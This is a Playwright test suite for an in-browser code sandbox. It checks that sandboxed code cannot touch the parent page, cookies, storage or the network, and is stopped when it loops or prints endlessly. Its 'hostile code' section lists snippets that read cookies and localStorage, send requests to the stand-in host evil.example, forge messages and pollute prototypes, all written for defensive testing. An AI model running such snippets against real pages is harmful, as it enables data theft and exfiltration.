// Tests that code in the sandbox can't reach the page, the reader's data or the network, that it can't run or print endlessly, and that the
// reader always gets a message.
import {once} from 'node:events';
import {createServer, type Server} from 'node:http';
import type {AddressInfo} from 'node:net';
import type {Page} from '@playwright/test';
import {expect, test} from '../fixtures';
import {
  loadSandboxApi,
  readEvents,
  runProject,
  startProject,
  stopProject,
  type SandboxEvent,
} from '../fixtures/sandbox';

const version = '10.x';

test.beforeEach(async ({page}) => {
  await page.goto('/docs/faq');
  await loadSandboxApi(page);
});

function run(page: Page, code: string): Promise<SandboxEvent[]> {
  return runProject(page, {version, files: {'main.ts': code}});
}

function listTexts(events: readonly SandboxEvent[]): string[] {
  return events.flatMap(({text}) => text ?? []);
}

function getReason(events: readonly SandboxEvent[]): string | undefined {
  return events.at(-1)?.reason;
}

const server = `
import {initTRPC} from '@trpc/server';
import {createHTTPServer} from '@trpc/server/adapters/standalone';
import {z} from 'zod';
const t = initTRPC.create();
export const appRouter = t.router({
  greeting: t.procedure.input(z.string()).query(({input}) => 'Hello ' + input),
  fail: t.procedure.query(() => { throw new Error('Broken'); }),
});
export type AppRouter = typeof appRouter;
createHTTPServer({router: appRouter}).listen(2022);
`;

const client = `
import {createTRPCProxyClient, httpBatchLink} from '@trpc/client';
import type {AppRouter} from './server';
const client = createTRPCProxyClient<AppRouter>({links: [httpBatchLink({url: 'http://localhost:2022'})]});
console.log(await Promise.all([client.greeting.query('Ada'), client.greeting.query('Bob')]));
console.log(new Map([['a', {b: new Date(0)}]]));
`;

test('runs a server and a client, and reports output and requests in order', async ({page}) => {
  const events = await runProject(page, {version, files: {'client.ts': client, 'server.ts': server}});
  expect(events.map(({type}) => type)).toEqual(['exchange', 'output', 'output', 'end']);
  expect(events[0]?.exchange).toMatchObject({
    status: 200,
    procedures: ['greeting', 'greeting'],
    isBatch: true,
  });
  expect(listTexts(events)).toEqual([
    "[ 'Hello Ada', 'Hello Bob' ]",
    "Map(1) { 'a' => { b: 1970-01-01T00:00:00.000Z } }",
  ]);
  expect(getReason(events)).toBe('finished');
  await expect(page.locator('iframe')).toHaveCount(0);
});

test('code has Node’s Buffer and digests, and packages that only look for a Buffer work without it', async ({
  page,
}) => {
  const own = await run(
    page,
    "import {createHmac} from 'node:crypto';\nconsole.log(Buffer.from('a?>').toString('base64url'), createHmac('sha256', 'k').update('x').digest('hex').slice(0, 8));",
  );
  expect(listTexts(own)).toEqual(['YT8- c38edc88']);
  const other = await runProject(page, {
    version: '9.x',
    files: {'main.ts': "import * as yup from 'yup';\nconsole.log(yup.string().isValidSync('a'));"},
  });
  expect(listTexts(other)).toEqual(['true']);
});

test('clients read the cookies of a response, as in Node', async ({page}) => {
  const events = await run(
    page,
    `
      import {createServer} from 'node:http';
      createServer((req, res) => {
        res.setHeader('set-cookie', ['a=1', 'b=2']);
        res.end(req.headers.cookie);
      }).listen(2022);
      const response = await fetch('http://localhost:2022', {headers: {cookie: 'c=3'}});
      console.log(response.headers.getSetCookie(), await response.text());
    `,
  );
  expect(listTexts(events)).toEqual(["[ 'a=1', 'b=2' ] c=3"]);
});

test('a server that fails while it starts ends the run with its own error, not with the one of its client', async ({
  page,
}) => {
  const files = {'client.ts': client, 'server.ts': `${server}throw new RangeError('No port');`};
  const events = await runProject(page, {version, files});
  expect(events).toMatchObject([
    {type: 'error', message: 'RangeError: No port', position: {path: 'server.ts', line: 12}},
    {type: 'end', reason: 'failed'},
  ]);
});

test('errors have the position in the reader’s file', async ({page}) => {
  const events = await runProject(page, {
    version,
    files: {
      'main.ts': "import {fail} from './lib/fail';\n\nconsole.log('before');\nfail();\n",
      'lib/fail.ts':
        'interface Unused {\n  a: string;\n}\n\nexport function fail(): never {\n  throw new TypeError("No");\n}\n',
    },
  });
  expect(events).toEqual([
    {type: 'output', level: 'log', text: 'before'},
    {type: 'error', message: 'TypeError: No', position: {path: 'lib/fail.ts', line: 6, column: 9}},
    {type: 'end', reason: 'failed'},
  ]);
  const rejected = await run(page, "setTimeout(async () => {\n  throw new Error('Late');\n}, 10);");
  expect(rejected[0]).toMatchObject({message: 'Error: Late', position: {path: 'main.ts', line: 2}});
  const invalid = await run(page, 'const a = 1;\nconst = 2;');
  expect(invalid[0]).toMatchObject({type: 'error', position: {path: 'main.ts', line: 2, column: 7}});
  expect(invalid[0]?.message).toMatch(/^SyntaxError: /);
  const missing = await run(page, "import fs from 'node:fs';\nconsole.log(fs);");
  expect(missing[0]).toMatchObject({message: "Error: The package 'node:fs' can't run in the page."});
});

test('shows a component with its hooks, and keeps it until the run is stopped', async ({page}) => {
  await startProject(page, {
    version,
    files: {
      'App.tsx': `
        import {createTRPCReact} from '@trpc/react-query';
        import {useState} from 'react';
        import type {AppRouter} from './server';
        const trpc = createTRPCReact<AppRouter>();
        export function App() {
          const [name, setName] = useState('Ada');
          // The click moves the focus to the frame, which would start another request.
          const greeting = trpc.greeting.useQuery(name, {refetchOnWindowFocus: false});
          return <button onClick={() => setName('Bob')}>{greeting.data ?? 'Loading'}</button>;
        }`,
      'server.ts': server.replace('createHTTPServer({router: appRouter}).listen(2022);', ''),
    },
  });
  const frame = page.frameLocator('iframe');
  await expect(frame.getByRole('button')).toHaveText('Hello Ada');
  await frame.getByRole('button').click();
  await expect(frame.getByRole('button')).toHaveText('Hello Bob');
  await expect
    .poll(async () => (await readEvents(page)).map(({type}) => type))
    .toEqual(['preview', 'exchange', 'exchange']);
  await stopProject(page);
  expect((await readEvents(page)).at(-1)).toEqual({type: 'end', reason: 'stopped'});
  await expect(page.locator('iframe')).toHaveCount(0);
});

test.describe('hostile code', () => {
  // Browsers report what they have blocked.
  test.use({allowedConsoleMessages: /./});

  // Counts the requests that reach another site, because browsers also report requests that they have blocked.
  const evil = {url: '', requests: [] as string[]};
  let evilServer: Server;

  test.beforeAll(async () => {
    evilServer = createServer((request, response) => {
      evil.requests.push(request.url ?? '');
      response.end();
    }).listen(0);
    await once(evilServer, 'listening');
    // TypeScript doesn't know that the address of a server on a port is an object.
    evil.url = `http://127.0.0.1:${(evilServer.address() as AddressInfo).port}`;
  });

  test.afterAll(() => void evilServer.close());

  test.beforeEach(async ({page}) => {
    evil.requests = [];
    await page.evaluate(() => {
      localStorage.setItem('secret', 'x');
      document.cookie = 'secret=x';
    });
  });

  for (const [name, code, message] of [
    ['the page', 'parent.document.title = "x"', /Blocked a frame with origin "null"|cross-origin/],
    ['the top page', 'top!.document.cookie', /cross-origin/],
    ['the address of the page', 'console.log(parent.location.href)', /cross-origin/],
    ['cookies', 'console.log(document.cookie)', /sandboxed/],
    ['localStorage', 'console.log(localStorage.length)', /sandboxed/],
    ['sessionStorage', 'sessionStorage.x = "1"', /sandboxed/],
    ['indexedDB', 'indexedDB.open("x")', /denied|SecurityError/],
    ['caches', 'await caches.open("x")', /sandboxed|SecurityError|null|undefined/],
    [
      'service workers',
      'await navigator.serviceWorker.register("/x.js")',
      /sandboxed|SecurityError|undefined/,
    ],
    [
      'navigation of the page',
      'top!.location.href = "https://evil.example/"',
      /permission to navigate|sandbox/,
    ],
  ] as const) {
    test(`can’t reach ${name}`, async ({page}) => {
      const url = page.url();
      const events = await run(page, code);
      expect(events[0]?.message).toMatch(message);
      expect(events[0]?.position).toMatchObject({path: 'main.ts', line: 1});
      expect(getReason(events)).toBe('failed');
      expect(page.url()).toBe(url);
    });
  }

  for (const [name, code] of [
    [
      'fetch',
      'const original = document.createElement("iframe"); try { await fetch("https://evil.example/a"); } catch (e) { console.log(String(e)); }',
    ],
    [
      'XMLHttpRequest',
      'const r = new XMLHttpRequest(); r.open("GET", "https://evil.example/a"); r.onerror = () => console.log("blocked"); r.send(); await new Promise(done => setTimeout(done, 200));',
    ],
    [
      'a request to the site',
      'const r = new XMLHttpRequest(); r.open("GET", "/docs"); r.onerror = () => console.log("blocked"); r.send(); await new Promise(done => setTimeout(done, 200));',
    ],
    [
      'WebSocket',
      'const s = new WebSocket("https://evil.example/a"); s.onerror = () => console.log("blocked"); await new Promise(done => setTimeout(done, 200));',
    ],
    [
      'an image',
      'const i = new Image(); i.onerror = () => console.log("blocked"); i.src = "https://evil.example/a.png"; await new Promise(done => setTimeout(done, 200));',
    ],
    [
      'a script',
      'const s = document.createElement("script"); s.onerror = () => console.log("blocked"); s.src = "https://evil.example/a.js"; document.body.append(s); await new Promise(done => setTimeout(done, 200));',
    ],
    [
      'a style sheet',
      'const s = document.createElement("link"); s.rel = "stylesheet"; s.onerror = () => console.log("blocked"); s.href = "https://evil.example/a.css"; document.head.append(s); await new Promise(done => setTimeout(done, 200));',
    ],
    [
      'import()',
      'try { await (0, eval)("import(\\"https://evil.example/a.js\\")"); } catch (e) { console.log("blocked"); }',
    ],
    [
      'a worker',
      'try { const w = new Worker("https://evil.example/a.js"); w.onerror = () => console.log("blocked"); await new Promise(done => setTimeout(done, 200)); } catch { console.log("blocked"); }',
    ],
    [
      'a frame',
      'const f = document.createElement("iframe"); f.src = "https://evil.example/a"; f.onload = () => console.log("blocked"); document.body.append(f); await new Promise(done => setTimeout(done, 300)); console.log("blocked");',
    ],
    [
      'a beacon',
      'navigator.sendBeacon("https://evil.example/a"); console.log("blocked"); await new Promise(done => setTimeout(done, 200));',
    ],
    [
      'a form',
      'const f = document.createElement("form"); f.action = "https://evil.example/a"; document.body.append(f); f.submit(); console.log("blocked"); await new Promise(done => setTimeout(done, 200));',
    ],
    ['a new window', 'console.log(window.open("https://evil.example/a") === null ? "blocked" : "open");'],
    [
      'a download',
      'const a = document.createElement("a"); a.href = "https://evil.example/a"; a.download = "a"; document.body.append(a); a.click(); console.log("blocked"); await new Promise(done => setTimeout(done, 200));',
    ],
    [
      'WebRTC',
      'try { new RTCPeerConnection({iceServers: [{urls: "stun:evil.example"}]}); } catch (e) { console.log("blocked"); }',
    ],
    [
      'EventSource',
      'try { const s = new EventSource("https://evil.example/a"); s.onerror = () => { s.close(); console.log("blocked"); }; } catch { console.log("blocked"); } await new Promise(done => setTimeout(done, 200));',
    ],
  ] as const) {
    test(`can’t use the network with ${name}`, async ({page, context}) => {
      const popups: Page[] = [];
      context.on('page', popup => popups.push(popup));
      const events = await run(page, code.replaceAll('https://evil.example', evil.url));
      // Code that tries to open another page in its frame is stopped.
      const texts = [...listTexts(events), ...events.flatMap(({message}) => message ?? [])];
      expect(texts.join()).toMatch(/blocked|fetch failed|has replaced its page/);
      expect(['finished', 'failed']).toContain(getReason(events));
      expect(evil.requests).toEqual([]);
      expect(popups).toEqual([]);
    });
  }

  for (const [name, code] of [
    ['another site', 'location.href = "https://evil.example/"'],
    ['a data URL', 'location.href = "data:text/html,<p>evil"'],
    [
      'a refresh',
      'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=https://evil.example/"; document.head.append(m);',
    ],
  ] as const) {
    test(`can’t navigate its frame to ${name}`, async ({page}) => {
      const url = page.url();
      const hostileCode = code.replaceAll('https://evil.example', evil.url);
      const lateOutput = "setTimeout(() => console.log('still here'), 1500);";
      await startProject(page, {
        version,
        files: {'main.ts': `${hostileCode};\n${lateOutput}\nsetInterval(() => {}, 1000);`},
      });
      // If the frame can't open the address, it either keeps its document or shows an error page, which ends the run.
      await expect
        .poll(async () =>
          (await readEvents(page)).some(({type, text}) => type === 'end' || text === 'still here'),
        )
        .toBe(true);
      await stopProject(page);
      expect(evil.requests).toEqual([]);
      expect(page.url()).toBe(url);
      expect((await readEvents(page)).at(-1)?.type).toBe('end');
    });
  }

  for (const [name, code] of [
    ['for (;;)', 'for (;;) {}'],
    ['while (true) with catch', 'while (true) { try { for (;;); } catch {} finally { continue; } }'],
    [
      'exponential recursion',
      'const f = (n: number): number => n < 2 ? n : f(n - 1) + f(n - 2);\nconsole.log(f(90));',
    ],
    ['promises', 'const loop = (): Promise<void> => Promise.resolve().then(loop);\nawait loop();'],
    ['await', 'while (true) { await null; }'],
    ['a generator', 'function* f() { while (true) yield 1; }\nfor (const x of f()) { void x; }'],
  ] as const) {
    test(`is stopped after 5 seconds: ${name}`, async ({page}) => {
      const start = Date.now();
      const events = await run(page, `console.log('start');\n${code}`);
      expect(events).toEqual([
        {type: 'output', level: 'log', text: 'start'},
        {type: 'end', reason: 'timeout'},
      ]);
      expect(Date.now() - start).toBeLessThan(15_000);
      expect(Date.now() - start).toBeGreaterThan(4500);
      await expect(page.locator('iframe')).toHaveCount(0);
    });
  }

  test('endless recursion ends with an error', async ({page}) => {
    const events = await run(page, 'const f = (): number => 1 + f();\nf();');
    expect(events[0]).toMatchObject({
      message: 'RangeError: Maximum call stack size exceeded',
      position: {line: 1},
    });
    expect(getReason(events)).toBe('failed');
  });

  test('100,000 lines end the run after 1,000 lines', async ({page}) => {
    const events = await run(page, 'for (let i = 0; i < 100_000; i++) { try { console.log(i); } catch {} }');
    expect(listTexts(events)).toHaveLength(1000);
    expect(getReason(events)).toBe('too-much-output');
    const long = await run(page, "console.log('a'.repeat(300_000));");
    expect(long).toEqual([{type: 'end', reason: 'too-much-output'}]);
    const paused = await run(
      page,
      'setInterval(() => { for (let i = 0; i < 300; i++) console.log(i); }, 1);',
    );
    expect(listTexts(paused)).toHaveLength(1000);
    expect(getReason(paused)).toBe('too-much-output');
  });

  test('forged messages change nothing', async ({page}) => {
    const events = await run(
      page,
      `
      for (const type of ['ready', 'end', 'output', 'exchange']) {
        parent.postMessage({type, level: 'log', text: 'forged', reason: 'finished', frames: []}, '*');
        window.postMessage({type, level: 'log', text: 'forged'}, '*');
        window.dispatchEvent(new MessageEvent('message', {data: {type: 'start', files: [], packs: ['forged()']}, source: parent}));
      }
      await new Promise(done => setTimeout(done, 100));
      console.log('real');
    `,
    );
    expect(events).toEqual([
      {type: 'output', level: 'log', text: 'real'},
      {type: 'end', reason: 'finished'},
    ]);
  });

  test('messages of other windows don’t start or change a run', async ({page}) => {
    await startProject(page, {
      version,
      files: {
        'main.ts':
          // The interval keeps the run going until the test has sent its messages.
          "setInterval(() => {}, 1000);\naddEventListener('message', () => setTimeout(() => console.log('late'), 300));\nconsole.log('real');",
      },
    });
    await expect.poll(async () => listTexts(await readEvents(page))).toEqual(['real']);
    await page.evaluate(() => {
      const frame = document.querySelector('iframe');
      const {port2} = new MessageChannel();
      frame?.contentWindow?.postMessage({type: 'start', files: [], packs: [], entries: []}, '*', [port2]);
      window.postMessage({type: 'ready'}, '*');
      window.postMessage({type: 'output', level: 'log', text: 'forged'}, '*');
    });
    // The program itself sees the message, and prints its line when a forged run would have had time to start.
    await expect.poll(async () => listTexts(await readEvents(page))).toContain('late');
    expect(listTexts(await readEvents(page))).toEqual(['real', 'late']);
    await stopProject(page);
  });

  test('a stolen port can only send valid events', async ({page}) => {
    const events = await run(
      page,
      `
      const send = MessagePort.prototype.postMessage;
      Function.prototype.bind = Function.prototype.call = Function.prototype.apply = () => { throw new Error('patched'); };
      Array.prototype.push = Array.prototype.map = () => { throw new Error('patched'); };
      (Object.prototype as any).type = 'end';
      (Object.prototype as any).reason = 'timeout';
      (Object.prototype as any).text = '<img src=x>';
      console.log('still here', typeof send);
    `,
    );
    expect(await page.evaluate(() => 'reason' in {} || 'text' in {})).toBe(false);
    expect(await page.evaluate(() => [1].map(x => x))).toEqual([1]);
    expect(['finished', 'failed', 'timeout']).toContain(getReason(events));
  });

  test('removing the document or replacing globals doesn’t affect the page', async ({page}) => {
    const title = await page.title();
    const events = await run(
      page,
      `
      document.body.remove();
      document.documentElement.remove();
      (globalThis as any).setTimeout = undefined;
      (globalThis as any).MessagePort = undefined;
      console.log('done');
    `,
    );
    expect(listTexts(events)).toEqual(['done']);
    expect(events.at(-1)?.type).toBe('end');
    const rewritten = await run(
      page,
      "document.open(); document.write('<p>gone'); document.close(); setInterval(() => {}, 100);",
    );
    expect(rewritten).toEqual([
      {type: 'error', message: 'Error: The code has replaced its page, so it has been stopped.'},
      {type: 'end', reason: 'failed'},
    ]);
    expect(await page.title()).toBe(title);
    await expect(page.locator('main')).toBeVisible();
  });

  test('dialogs become messages', async ({page}) => {
    let dialogs = 0;
    page.on('dialog', dialog => {
      dialogs++;
      void dialog.dismiss();
    });
    const events = await run(page, "alert('x'); confirm('x'); prompt('x'); print();");
    expect(listTexts(events)).toEqual([
      "alert() isn't available here.",
      "confirm() isn't available here.",
      "prompt() isn't available here.",
    ]);
    expect(dialogs).toBe(0);
  });

  for (const code of [
    "(0, eval)('for (;;) {}');",
    "new Function('for (;;) {}')();",
    "(async () => {}).constructor('for (;;) {}')();",
  ]) {
    test(`code without checks can’t be created: ${code}`, async ({page}) => {
      const events = await run(page, code);
      expect(events[0]?.message).toMatch(/^EvalError: /);
      expect(events[0]?.position).toMatchObject({path: 'main.ts', line: 1});
      expect(getReason(events)).toBe('failed');
    });
  }
});

test.describe('files that can’t be loaded', () => {
  test.use({allowedConsoleMessages: /Failed to load resource/});

  for (const [name, pattern] of [
    ['the manifest', '**/playground-sandbox.json'],
    ['a pack', '**/playground/packs/*'],
    ['the frame', '**/playground/frame-*'],
  ] as const) {
    test(`a run ends if ${name} can’t be loaded`, async ({page}) => {
      await page.route(pattern, route => route.abort());
      expect(await run(page, 'console.log(1)')).toEqual([{type: 'end', reason: 'not-loaded'}]);
      await page.unroute(pattern);
      await page.route(pattern, route =>
        route.fulfill({status: 404, contentType: 'text/html', body: 'Not found'}),
      );
      expect(await run(page, 'console.log(1)')).toEqual([{type: 'end', reason: 'not-loaded'}]);
      await page.unroute(pattern);
      expect(getReason(await run(page, 'console.log(1)'))).toBe('finished');
    });
  }
});

test('the frame has a strict policy, and the page has no exception', async ({page, request}) => {
  const manifest = (await (await request.get('/playground-sandbox.json')).json()) as {
    frame: string;
  };
  const frame = await request.get(`/${manifest.frame}`);
  const policy = frame.headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("form-action 'none'; frame-ancestors 'self'; sandbox allow-scripts allow-forms");
  expect(policy).not.toContain('connect-src');
  const pagePolicy = (await request.get(page.url())).headers()['content-security-policy'] ?? '';
  expect(pagePolicy).toContain("frame-src 'self';");
  expect(pagePolicy).not.toContain('unsafe-eval');
});
